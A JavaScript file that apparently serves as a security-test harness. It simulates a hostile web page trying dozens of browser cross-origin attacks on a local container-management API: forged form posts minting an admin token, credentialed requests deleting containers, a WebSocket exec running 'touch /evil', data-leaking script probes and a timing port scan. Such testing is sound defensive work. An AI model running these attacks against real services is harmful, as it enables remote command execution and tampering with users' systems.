// What a page of somebody else tries on a machine, by every way that a browser knows. Each attack returns what the page
// could read; whether something was changed is for the machine to say. `by` tells a target which attack reached it.

// How long an attack may take, in milliseconds.
let patience = 2500;
const TOKEN = '{"label":"evil","role":"admin"}';

const until = (start) => Promise.race([new Promise(start), new Promise((end) => setTimeout(end, patience, ""))]);
const element = (name, set) => document.body.appendChild(Object.assign(document.createElement(name), set));

// Everything that an element shows of what it loaded.
const loaded = (name, set, shows) => until((end) => {
  const one = element(name, set);
  one.onload = () => { try { end(shows(one) || ""); } catch { end(""); } };
  one.onerror = () => end("");
});

const read = async (url, options) => {
  const answer = await fetch(url, { signal: AbortSignal.timeout(patience), ...options });
  return answer.type === "opaque" ? "" : `${answer.status} ${await answer.text()}`;
};

const form = (action, enctype, fields, method = "POST") => until((end) => {
  const frame = element("iframe", { name: `f${Math.random()}` });
  const sent = element("form", { action, method, enctype, target: frame.name });
  for (const [name, value] of fields) sent.append(Object.assign(document.createElement("input"), { name, value }));
  frame.onload = () => { try { end(frame.contentDocument.body.innerText); } catch { end(""); } };
  sent.submit();
});

const socket = (url) => until((end) => {
  const one = new WebSocket(url.replace(/^http/, "ws"));
  one.onopen = () => one.send("\0touch /evil\n");
  one.onmessage = async (message) => end(typeof message.data === "string" ? message.data : await message.data.text());
  one.onerror = () => end("");
});

const xhr = (method, url, body) => until((end) => {
  const one = new XMLHttpRequest();
  one.open(method, url);
  one.withCredentials = true;
  one.onload = () => end(one.responseText);
  one.onerror = () => end("");
  one.send(body);
});

const events = (url) => until((end) => {
  const one = new EventSource(url, { withCredentials: true });
  one.onmessage = (message) => { one.close(); end(message.data); };
  one.onerror = () => { one.close(); end(""); };
});

// A script of another origin shows itself by what it sets, and by its mistakes.
const script = (url, type = "") => until((end) => {
  const before = new Set(Object.keys(window));
  const tell = () => end(Object.keys(window).filter((it) => !before.has(it)).join(" "));
  window.addEventListener("error", (error) => end(error.message === "Script error." ? "" : error.message ?? ""), { once: true });
  const one = element("script", { src: url, type });
  one.onload = tell;
  one.onerror = () => end("");
});

const worker = (url) => until((end) => {
  const text = `try { importScripts(${JSON.stringify(url)}); postMessage(Object.keys(self).join()) } catch (e) { postMessage("") }`;
  const one = new Worker(URL.createObjectURL(new Blob([text])));
  one.onmessage = (message) => end(message.data);
  one.onerror = () => end("");
});

const opened = (url) => until((end) => {
  const one = window.open(url);
  setTimeout(() => {
    let seen = "";
    try { seen = one.document.body.innerText; } catch {}
    one?.close();
    end(seen);
  }, 1200);
});

const follow = (url) => until((end) => {
  const frame = element("iframe", { name: `l${Math.random()}` });
  frame.onload = () => { try { end(frame.contentDocument.body.innerText); } catch { end(""); } };
  element("a", { href: url, target: frame.name, ping: url }).click();
});

// How long it takes until a port says something tells whether somebody is there, and no more than that.
const scan = async (url) => {
  const start = performance.now();
  await fetch(url, { mode: "no-cors", signal: AbortSignal.timeout(patience) }).catch(() => {});
  return performance.now() - start > patience * 2 ? "open" : "";
};

const container = "/apis/piccolo.os/v1alpha1/containers";
const json = { "content-type": "application/json" };
const include = { credentials: "include" };

const attacks = {
  "form-urlencoded": (at) => form(at("/tokens"), "application/x-www-form-urlencoded", [["label", "evil"], ["role", "admin"]]),
  "form-plain": (at) => form(at("/tokens"), "text/plain", [[`${TOKEN.slice(0, -1)},"x":"`, `"}`]]),
  "form-multipart": (at) => form(at("/images/import"), "multipart/form-data", [["archive", "evil"]]),
  "form-get": (at) => form(at("/capture"), "application/x-www-form-urlencoded", [["by", "form-get"]], "GET"),
  "img": (at) => loaded("img", { src: at("/openapi.json") }, (it) => it.naturalWidth && `${it.naturalWidth}`),
  "stylesheet": (at) => loaded("link", { rel: "stylesheet", href: at("/plan") }, (it) => it.sheet.cssRules[0]?.cssText),
  "script": (at) => script(at("/plan")),
  "script-module": (at) => script(at("/openapi.json"), "module"),
  "import-json": (at) => import(at("/whoami"), { with: { type: "json" } }).then((it) => JSON.stringify(it.default)),
  "worker": (at) => worker(at("/plan")),
  "object": (at) => loaded("object", { data: at("/plan") }, (it) => it.contentDocument?.body.innerText),
  "embed": (at) => loaded("embed", { src: at("/plan") }, (it) => it.getSVGDocument()?.textContent),
  "iframe": (at) => loaded("iframe", { src: at("/whoami") }, (it) => it.contentDocument.body.innerText),
  "fetch-cors": (at) => read(at("/whoami"), include),
  "fetch-cors-write": (at) => read(at("/tokens"), { ...include, method: "POST", headers: json, body: TOKEN }),
  "fetch-delete": (at) => read(at(`${container}/web`), { ...include, method: "DELETE" }),
  "fetch-put": (at) => read(at(`${container}/web`), { ...include, method: "PUT", headers: json, body: "{}" }),
  "fetch-no-cors": (at) => read(at("/tokens"), { ...include, mode: "no-cors", method: "POST", body: TOKEN }),
  "fetch-no-cors-read": (at) => read(at("/whoami"), { ...include, mode: "no-cors" }),
  "fetch-no-cors-git": (at) => read(at("/git/config.git/git-receive-pack"), { ...include, mode: "no-cors", method: "POST", body: "0000" }),
  "fetch-keepalive": (at) => read(at("/images/prune"), { ...include, mode: "no-cors", method: "POST", keepalive: true }),
  "xhr": (at) => xhr("GET", at("/audit")),
  "xhr-write": (at) => xhr("POST", at("/confirm"), '{"id":"evil"}'),
  "beacon": async (at) => (navigator.sendBeacon(at("/tokens"), TOKEN), ""),
  "beacon-blob": async (at) => (navigator.sendBeacon(at("/history/rollback"), new Blob(["{}"], { type: "text/plain" })), ""),
  "websocket": (at) => socket(at(`${container}/web/exec`, "command=touch&command=/evil&stdout=true")),
  "event-source": (at) => events(at("/journal", "follow=true")),
  "window": (at) => opened(at("/whoami")),
  "link": (at) => follow(at("/tokens")),
  "scan": (at) => scan(at("/")),
};

// Tries everything on a target at once. Returns what could be read, by attack.
const attack = async (target, each) => {
  patience = each;
  const results = Object.entries(attacks).map(async ([by, act]) => {
    const at = (path, query = "") => `${target}${path}?by=${by}&${query}`;
    return [by, await Promise.resolve().then(() => act(at)).catch(() => "")];
  });
  return Object.fromEntries(await Promise.all(results));
};
